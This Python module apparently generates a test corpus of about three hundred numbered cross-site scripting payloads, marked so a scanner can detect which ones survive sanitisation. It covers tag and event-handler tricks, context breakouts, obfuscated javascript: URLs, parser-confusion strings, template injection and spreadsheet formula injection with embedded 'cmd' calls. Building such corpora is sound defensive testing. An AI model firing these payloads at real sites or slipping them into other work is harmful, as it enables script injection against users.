"""Three hundred ways to slip script into a page. Each calls `alert` with its own number.

Markup carries the attribute `x-planted`: whoever finds an element with it found a hole, whether
or not the browser ran it.
"""

from base64 import b64encode
from collections.abc import Callable, Iterator
from itertools import product

PER_GROUP = 20
MARK = "x-planted"

Payload = Callable[[int], str]  # of its number

SELF_STARTING = [
    ("img src=x:", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("video src=x:", "onerror"),
    ("audio src=x:", "onerror"),
    ("video><source src=x:", "onerror"),
    ("object data=x:", "onerror"),
    ("embed src=x:", "onerror"),
    ("iframe src=/robots.txt", "onload"),
    ("link rel=stylesheet href=x:", "onerror"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("script src=x:", "onerror"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onbegin"),
    ("svg><image href=x:", "onerror"),
    ("b style=animation:a", "onanimationstart"),
    ("p tabindex=1 autofocus", "onfocusin"),
    ("a href=# autofocus", "onfocus"),
]
ON_A_GESTURE = ["onclick", "onmouseover", "onpointerenter", "oncopy", "onkeydown", "onpaste"]
BREAKOUTS = [
    '">',
    "'>",
    "`>",
    "</title>",
    "</textarea>",
    "</script>",
    "</SCRIPT >",
    "</style>",
    "-->",
    "--!>",
    "]]>",
    "</noscript>",
    "</option></select>",
    "</template>",
    "</svg>",
    "</math>",
    "</iframe>",
    "</time></td></tr></table>",
    '\\">',
    '\\u0022">',
    "*/",
]
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java\nscript:",
    "javascript://example.org/%0a",
    "javascript:/*http://example.org/*/",
    "&#106;avascript:",
    "&#x6A;&#x61vascript&colon;",
    "javascript&NewLine;:",
    "%6aavascript:",
    "vbscript:",
    "data:text/html,<script x-planted>",
    "data:image/svg+xml,<svg x-planted onload=",
]
PLACES_OF_ADDRESSES = [
    '<a x-planted href="{}">x</a>',
    '<iframe x-planted src="{}"></iframe>',
    '<form x-planted action="{}"><input type=submit></form>',
    "<svg><a x-planted xlink:href='{}'><text>x</text></a></svg>",
    "{}",
    "[x]({})",
    "![x]({})",
    "[x](<{}>)",
    "<{}>",
    '[x][planted]\n\n[planted]: {} "title"',
]
OTHER_PLACES_OF_SCRIPT = [
    '<button x-planted formaction="javascript:alert({})">x</button>',
    '<object x-planted data="javascript:alert({})"></object>',
    '<embed x-planted src="javascript:alert({})">',
    '<math x-planted href="javascript:alert({})">x</math>',
    '<meta x-planted http-equiv=refresh content="0;url=javascript:alert({})">',
    '<base x-planted href="javascript:alert({})//">',
    '<area x-planted href="javascript:alert({})">',
    '<svg><animate x-planted attributeName=href values="javascript:alert({})"></svg>',
    '<svg><use x-planted href="data:image/svg+xml,<svg onload=alert({})>"></svg>',
    "<svg><script x-planted>alert({})</script></svg>",
    "<svg><script x-planted>alert&#40;{}&#41;</script></svg>",
    "<script x-planted>alert({})</script>",
    "<ScRiPt x-planted >alert({})</sCrIpT\t>",
    "<script x-planted src=data:text/javascript,alert({})></script>",
    "<script x-planted type=module>alert({})</script>",
    '<script type="application/ld+json">{{}}</script><script x-planted>alert({})</script>',
    '<iframe x-planted srcdoc="<script>parent.alert({})</script>"></iframe>',
    "<style x-planted>@import 'javascript:alert({})';</style>",
    '<p x-planted style="background:url(javascript:alert({}))">x</p>',
    '<table x-planted background="javascript:alert({})"><td>x</table>',
    '<noscript><p title="</noscript><img x-planted src=x: onerror=alert({})>">',
    "<svg><style><img x-planted src=x: onerror=alert({})></style></svg>",
    "<svg><title><img x-planted src=x: onerror=alert({})></title></svg>",
    '<svg></p><style><a id="</style><img x-planted src=x: onerror=alert({})>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img x-planted src=x:'
    ' onerror=alert({})&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img x-planted onerror=alert({}) src=x:>">',
    "<math><annotation-xml encoding=text/html><img x-planted src=x: onerror=alert({})>",
    "<svg><foreignObject><img x-planted src=x: onerror=alert({})></foreignObject></svg>",
    "<![CDATA[<img x-planted src=x: onerror=alert({})>]]>",
    "<!--><img x-planted src=x: onerror=alert({})>-->",
    "<!---!><img x-planted src=x: onerror=alert({})>",
    "<?xml ?><img x-planted src=x: onerror=alert({})>",
    "<![if !IE]><img x-planted src=x: onerror=alert({})><![endif]>",
    '<xmp x-planted><p title="</xmp><img x-planted src=x: onerror=alert({})>">',
    "<plaintext x-planted><img x-planted src=x: onerror=alert({})>",
    "<template x-planted shadowrootmode=open><img src=x: onerror=alert({})></template>",
    "<img x-planted src=x: onerror=alert({})//",
    "<img/x-planted/src=x:/onerror=alert({})>",
    "<img\nx-planted\nsrc=x:\nonerror\n=\nalert({})>",
    "<img\fx-planted\fsrc=x:\fonerror=alert({})>",
    "<img\u00a0x-planted src=x: onerror=alert({})>",
    "<img x-planted src=x: onerror\u3000=alert({})>",
    "<\u200bimg x-planted src=x: onerror=alert({})>",
    "\u202e<img x-planted src=x: onerror=alert({})>",
    "\uff1cimg x-planted src=x: onerror=alert({})\uff1e",
    "&lt;img x-planted src=x: onerror=alert({})&gt;",
    "&amp;lt;img x-planted src=x: onerror=alert({})&amp;gt;",
    "&#60;img x-planted src=x: onerror=alert({})&#62;",
    "&#x3c;img x-planted src=x: onerror=alert({})&#x3e",
    "\\x3cimg x-planted src=x: onerror=alert({})\\x3e",
    "\\u003cimg x-planted src=x: onerror=alert({})\\u003e",
    "%3Cimg x-planted src=x: onerror=alert({})%3E",
    "<div>\n<img x-planted src=x: onerror=alert({})>\n</div>\n",
    "```html\n<img x-planted src=x: onerror=alert({})>\n```\n",
    '```"><img x-planted src=x: onerror=alert({})>\n```\n',
    "<details x-planted open ontoggle=alert({})>\n\n**bold**\n\n</details>",
    "**<b x-planted onmouseover=alert({})>b**</b>",
    '[x](https://example.org "\'><img x-planted src=x: onerror=alert({})>")',
    '[x](https://example.org/"onmouseover=alert({})//)',
    "[<img x-planted src=x: onerror=alert({})>](https://example.org)",
    '![" onerror="alert({})](x:)',
    '<https://example.org/"onmouseover="alert({})>',
    "<javascript:alert({})@example.org>",
    "> <img x-planted src=x: onerror=alert({})>\n\n",
    "# <img x-planted src=x: onerror=alert({})>\n\n",
    "{{{{ request }}}}{{% load alert %}}<img x-planted src=x: onerror=alert({})>",
    "{{% autoescape off %}}<img x-planted src=x: onerror=alert({})>{{% endautoescape %}}",
    "{{{{ '<img x-planted src=x: onerror=alert({})>'|safe }}}}",
    "{{{{constructor.constructor('alert({})')()}}}}",
    "${{alert({})}}",
    "#{{alert({})}}",
    "<%= alert({}) %>",
    "%(name)s %s %d <img x-planted src=x: onerror=alert({})>",
    "{{0.__class__}}{{!r}}<img x-planted src=x: onerror=alert({})>",
    "');alert({});('",
    '");alert({});("',
    "`;alert({});`",
    "\u2028alert({})\u2029",
    '"}}</script><script x-planted>alert({})</script>',
    '","@type":"x","url":"javascript:alert({})',
    "</script><!--<script x-planted>alert({})",
    '<!--<script>"</script><img x-planted src=x: onerror=alert({})>',
    "' autofocus onfocus=alert({}) x='",
    '" autofocus onfocus=alert({}) x="',
    '" style="animation:a" onanimationstart="alert({})',
    " onfocus=alert({}) autofocus ",
    '=HYPERLINK("javascript:alert({})")',
    "+cmd|' /C alert({})'!A0",
    "-2+3+cmd|' /C alert({})'!A0",
    "@SUM(1+9)*cmd|' /C alert({})'!A0",
    '\t=IMPORTXML("javascript:alert({})")',
    '=1+1";alert({});"',
    "\ufeff=alert({})",
]


def handled(tag: str, handler: str) -> Payload:
    return lambda number: f"<{tag} {MARK} {handler}=alert({number})>"


def broken_out(prefix: str, tag: str, handler: str) -> Payload:
    return lambda number: prefix + handled(tag, handler)(number)


def filled(template: str) -> Payload:
    return lambda number: template.format(number)


def addressed(place: str, scheme: str) -> Payload:
    return lambda number: place.replace("{}", f"{scheme}alert({number})")


def encoded(place: str) -> Payload:
    def payload(number: int) -> str:
        script = b64encode(f"<script>alert({number})</script>".encode()).decode()
        return place.replace("{}", f"data:text/html;base64,{script}")

    return payload


def every_payload() -> Iterator[Payload]:
    yield from (filled(template) for template in OTHER_PLACES_OF_SCRIPT)
    yield from (handled(tag, handler) for tag, handler in SELF_STARTING)
    yield from (handled(tag, handler) for tag, handler in product(("b", "svg"), ON_A_GESTURE))
    for number, prefix in enumerate(BREAKOUTS):
        yield broken_out(prefix, *SELF_STARTING[number % len(SELF_STARTING)])
    yield from (encoded(place) for place in PLACES_OF_ADDRESSES)
    yield from (addressed(place, scheme) for scheme, place in product(SCHEMES, PLACES_OF_ADDRESSES))


PAYLOADS = [payload(number) for number, payload in enumerate(every_payload())]
GROUPS = [
    "\n".join(PAYLOADS[start : start + PER_GROUP]) for start in range(0, len(PAYLOADS), PER_GROUP)
]
ADDRESSES = [f"{scheme}alert({number})//" for number, scheme in enumerate(SCHEMES)]
